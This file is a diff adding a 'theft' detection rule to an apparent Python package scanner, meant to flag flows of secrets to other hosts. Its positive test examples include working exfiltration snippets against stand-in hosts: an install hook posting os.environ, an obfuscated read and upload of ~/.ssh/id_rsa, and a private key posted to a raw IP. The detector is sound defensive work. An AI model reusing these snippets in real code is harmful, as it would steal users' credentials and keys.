@@ -1,0 +1,112 @@
+"""Theft: secrets of the machine or of the caller leave for another host."""
+
+from __future__ import annotations
+
+from collections.abc import Iterator
+
+from pratique.facts.model import PackageFacts
+from pratique.facts.python.model import Call, Does, Source, Taint
+from pratique.facts.python.secrets import secret_argument, secret_variable
+from pratique.facts.shell import read_shell
+from pratique.finding import Behaviour, Confidence, Finding, Severity
+from pratique.rules.claims import calls, claim, command, destination, hidden, when
+from pratique.rules.rule import Example, Rule
+
+_ID = "theft"
+_STOLEN = (Source.SECRET, Source.ENVIRON, Source.CLIPBOARD, Source.SCREEN, Source.KEYS)
+_WHAT = {
+    Source.SECRET: "credentials",
+    Source.ENVIRON: "the whole environment",
+    Source.CLIPBOARD: "the clipboard",
+    Source.SCREEN: "the screen",
+    Source.KEYS: "key strokes",
+}
+
+
+def _check(facts: PackageFacts) -> Iterator[Finding]:
+    for path, call in calls(facts):
+        if call.does & {Does.SEND, Does.FETCH}:
+            yield from _sent(path, call)
+        elif Does.RUN_PROCESS in call.does and read_shell(command(call)).steals:
+            yield _finding(path, call, "secrets", (), sure=True)
+
+
+def _sent(path: str, call: Call) -> Iterator[Finding]:
+    taints = call.taints(*_STOLEN)
+    if taints:
+        yield _finding(
+            path, call, _WHAT[taints[0].source], taints, sure=call.phase.automatic or hidden(call, destination(call))
+        )
+        return
+    argument = tuple(t for t in call.taints(Source.CALLER) if secret_argument(t.detail))
+    if argument and Does.SEND in call.does and hidden(call, destination(call)):
+        yield _finding(path, call, f"the caller's {argument[0].detail}", argument, sure=True)
+    variable = tuple(t for t in call.taints(Source.VARIABLE) if secret_variable(t.detail))
+    if variable and call.phase.automatic and hidden(call, destination(call)):
+        yield claim(
+            _ID,
+            Behaviour.THEFT,
+            path,
+            call,
+            f"the variable {variable[0].detail} is sent to {destination(call) or 'another host'} {when(call.phase)}",
+            severity=Severity.CRITICAL,
+            taints=variable,
+        )
+
+
+def _finding(path: str, call: Call, what: str, taints: tuple[Taint, ...], *, sure: bool) -> Finding:
+    return claim(
+        _ID,
+        Behaviour.THEFT,
+        path,
+        call,
+        f"{what} sent to {destination(call) or 'another host'} {when(call.phase)}",
+        severity=Severity.CRITICAL if sure else Severity.HIGH,
+        confidence=Confidence.HIGH if sure else Confidence.LOW,
+        proven=sure and (call.phase.automatic or bool(call.layers) or hidden(call, destination(call))),
+        taints=taints,
+    )
+
+
+RULE = Rule(
+    id=_ID,
+    behaviour=Behaviour.THEFT,
+    summary="Credentials, the environment, the clipboard, the screen or a caller's secret are sent to another host.",
+    gain="Accounts, money and the next victims: publishing tokens spread the attack, cloud keys pay for it.",
+    honest="Clients of a service send the one token that belongs to it; only a flow from a secret's place to a sink counts.",
+    check=_check,
+    loud=(
+        Example(
+            title="the environment at install, in a command class",
+            files={
+                "setup.py": "from setuptools import setup\nfrom setuptools.command.install import install\n"
+                "class I(install):\n    def run(self):\n        import os, requests as q\n"
+                "        q.post('https://hook.example.invalid/', data=dict(os.environ))\n"
+                "setup(name='x', cmdclass={'install': I})\n"
+            },
+        ),
+        Example(
+            title="a key file through getattr",
+            files={
+                "pkg/__init__.py": "import os, urllib.request as u\nk = open(os.path.expanduser('~/.ssh/id_rsa')).read()\n"
+                "getattr(u, 'url' + 'open')('http://198.51.100.3/', data=k.encode())\n"
+            },
+        ),
+        Example(
+            title="a private key handed to a helper",
+            files={
+                "pkg/__init__.py": "import requests\ndef check(private_key):\n"
+                "    requests.post('http://203.0.113.9/c', json={'k': private_key})\n"
+            },
+        ),
+    ),
+    quiet=(
+        Example(
+            title="a client with a token of its own service",
+            files={
+                "pkg/__init__.py": "import os, requests\ndef call():\n"
+                "    return requests.get('https://api.example.invalid/', headers={'Authorization': os.environ['PKG_TOKEN']})\n"
+            },
+        ),
+    ),
+)
